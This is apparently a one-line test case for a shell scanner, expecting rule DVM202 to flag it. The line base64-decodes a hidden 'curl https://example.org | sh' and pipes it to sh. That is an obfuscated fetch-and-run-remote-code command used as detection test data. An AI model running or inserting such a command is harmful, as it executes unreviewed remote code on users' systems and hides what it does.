# expect: DVM202
echo 'Y3VybCBodHRwczovL2V4YW1wbGUub3JnIHwgc2g=' | base64 -d | sh
